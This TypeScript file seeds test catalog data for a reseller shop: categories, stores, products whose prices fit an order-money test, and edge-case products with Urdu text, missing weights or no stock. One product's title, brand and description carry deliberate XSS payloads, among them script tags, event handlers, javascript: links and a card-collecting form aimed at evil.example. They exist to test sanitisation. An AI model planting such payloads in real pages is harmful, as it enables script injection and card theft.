/** One line of the seed catalog. Prices in rupees; `variants` lists what differs from the product. */
export type ProductSeed = {
  id: string;
  title: string;
  category: string;
  store: string;
  wholesale: number;
  minResale: number;
  suggested: number;
  weightKg: number | null;
  stock?: number;
  brand?: string | null;
  tags?: string[];
  description?: string;
  images?: string[];
  /** Each colour has a picture of its own; else all variants show the first. */
  isPicturedByColor?: boolean;
  compareAt?: number | null;
  freeShipping?: boolean;
  colors?: string[];
  sizes?: string[];
};

export const CATEGORY_SEEDS = [
  { id: "cat_women", name: "Women", parentId: null },
  { id: "cat_women_lawn", name: "Lawn suits", parentId: "cat_women" },
  { id: "cat_women_bags", name: "Handbags", parentId: "cat_women" },
  { id: "cat_men", name: "Men", parentId: null },
  { id: "cat_men_kurta", name: "Kurtas", parentId: "cat_men" },
  { id: "cat_men_shoes", name: "Shoes", parentId: "cat_men" },
  { id: "cat_home", name: "Home", parentId: null },
  { id: "cat_home_kitchen", name: "Kitchen", parentId: "cat_home" },
  { id: "cat_home_bedding", name: "Bedding", parentId: "cat_home" },
  { id: "cat_electronics", name: "Electronics", parentId: null },
  { id: "cat_electronics_audio", name: "Audio", parentId: "cat_electronics" },
  { id: "cat_empty", name: "Seasonal", parentId: null },
] as const;

export const STORE_IDS = ["store_lahore", "store_karachi", "store_faisalabad"] as const;

const HOSTILE_HTML = [
  "<p onclick=\"alert('x')\">Soft <strong>cotton</strong> throw.</p>",
  "<script>document.title='owned'</script>",
  '<img src="x" onerror="alert(1)"><svg onload="alert(2)"></svg>',
  '<a href="javascript:alert(3)">Size chart</a>',
  '<a href="JaVaScRiPt&#58;alert(4)">Care</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>body{display:none}</style><p style="background:url(javascript:alert(5))">Wash cold.</p>',
  '<img src="https://images.karwan-catalog.example/hotlinked/throw.jpg" alt="throw">',
  "<form action='https://evil.example'><input name='card'></form><p>Unclosed <em>tag",
].join("\n");

/** Products whose prices and weights fit `test/integration/orders/money-examples.test.ts`. */
export const WORKED_PRODUCTS: ProductSeed[] = [
  {
    id: "prd_cooker",
    title: "Pressure Cooker Gasket Set",
    category: "cat_home_kitchen",
    store: "store_lahore",
    wholesale: 1000,
    minResale: 1200,
    suggested: 1600,
    weightKg: 0.8,
    stock: 500,
  },
  {
    id: "prd_spoons",
    title: "Steel Spoon Set",
    category: "cat_home_kitchen",
    store: "store_lahore",
    wholesale: 200,
    minResale: 300,
    suggested: 350,
    weightKg: 0.15,
    stock: 500,
  },
  {
    id: "prd_bedsheet",
    title: "Cotton Bedsheet King",
    category: "cat_home_bedding",
    store: "store_lahore",
    wholesale: 1500,
    minResale: 2000,
    suggested: 2499,
    weightKg: 1.4,
    stock: 300,
  },
  {
    id: "prd_mugs",
    title: "Chai Mug Pair",
    category: "cat_home_kitchen",
    store: "store_lahore",
    wholesale: 600,
    minResale: 800,
    suggested: 1000,
    weightKg: 0.7,
    stock: 400,
  },
  {
    id: "prd_lantern",
    title: "Rechargeable Lantern",
    category: "cat_electronics",
    store: "store_lahore",
    wholesale: 900,
    minResale: 1200,
    suggested: 1500,
    weightKg: 0.9,
    stock: 400,
  },
  {
    id: "prd_earbuds",
    title: "Wireless Earbuds",
    category: "cat_electronics_audio",
    store: "store_karachi",
    wholesale: 600,
    minResale: 800,
    suggested: 1000,
    weightKg: 0.4,
    stock: 400,
  },
  {
    id: "prd_speaker",
    title: "Bluetooth Speaker",
    category: "cat_electronics_audio",
    store: "store_faisalabad",
    wholesale: 1200,
    minResale: 1600,
    suggested: 2000,
    weightKg: 1.2,
    stock: 400,
  },
  {
    id: "prd_freight_free",
    title: "Embroidered Shawl, Free Delivery",
    category: "cat_women",
    store: "store_lahore",
    wholesale: 1000,
    minResale: 1200,
    suggested: 1600,
    weightKg: 0.8,
    stock: 200,
    freeShipping: true,
  },
];

/** Products that go wrong in an app that trusts them. */
export const AWKWARD_PRODUCTS: ProductSeed[] = [
  {
    id: "prd_hostile",
    title: 'Cotton Throw <script>alert("title")</script>',
    category: "cat_home_bedding",
    store: "store_karachi",
    wholesale: 800,
    minResale: 1000,
    suggested: 1300,
    weightKg: 0.9,
    stock: 40,
    brand: "<b>Brand</b>",
    description: HOSTILE_HTML,
    images: ["https://images.karwan-catalog.example/prd_hostile/1.jpg"],
  },
  {
    id: "prd_urdu",
    title: "خوبصورت کڑھائی والا لان سوٹ",
    category: "cat_women_lawn",
    store: "store_faisalabad",
    wholesale: 1900,
    minResale: 2300,
    suggested: 2900,
    weightKg: 0.6,
    stock: 60,
    description: '<p dir="rtl">تین حصوں پر مشتمل، دھلائی کے بعد رنگ قائم۔</p>',
    colors: ["سرخ", "نیلا"],
  },
  {
    id: "prd_unknown_weight",
    title: "Handmade Wall Clock",
    category: "cat_home",
    store: "store_karachi",
    wholesale: 1400,
    minResale: 1750,
    suggested: 2200,
    weightKg: null,
    stock: 25,
  },
  {
    id: "prd_unknown_weight_2",
    title: "Brass Serving Tray",
    category: "cat_home_kitchen",
    store: "store_lahore",
    wholesale: 1100,
    minResale: 1400,
    suggested: 1800,
    weightKg: null,
    stock: 15,
  },
  {
    id: "prd_sold_out",
    title: "Leather Wallet",
    category: "cat_men",
    store: "store_lahore",
    wholesale: 700,
    minResale: 900,
    suggested: 1200,
    weightKg: 0.2,
    stock: 0,
  },
  {
    id: "prd_sold_out_sizes",
    title: "Peshawari Chappal",
    category: "cat_men_shoes",
    store: "store_karachi",
    wholesale: 1600,
    minResale: 2000,
    suggested: 2600,
    weightKg: 0.9,
    stock: 0,
    sizes: ["40", "41", "42", "43"],
  },
  {
    id: "prd_last_one",
    title: "Antique Tea Samovar",
    category: "cat_home_kitchen",
    store: "store_faisalabad",
    wholesale: 5200,
    minResale: 6000,
    suggested: 7500,
    weightKg: 3.4,
    stock: 1,
  },
  {
    id: "prd_heavy",
    title: "Cast Iron Tawa Bundle",
    category: "cat_home_kitchen",
    store: "store_faisalabad",
    wholesale: 3200,
    minResale: 3800,
    suggested: 4500,
    weightKg: 5.3,
    stock: 80,
  },
  {
    id: "prd_free_delivery_2",
    title: "Phone Ring Holder, Free Delivery",
    category: "cat_electronics",
    store: "store_karachi",
    wholesale: 150,
    minResale: 250,
    suggested: 400,
    weightKg: 0.05,
    stock: 900,
    freeShipping: true,
    colors: ["Black", "Silver"],
    isPicturedByColor: true,
  },
  {
    id: "prd_no_images",
    title: "Plain Dupatta",
    category: "cat_women",
    store: "store_lahore",
    wholesale: 450,
    minResale: 600,
    suggested: 850,
    weightKg: 0.25,
    stock: 120,
    images: [],
    compareAt: null,
  },
];
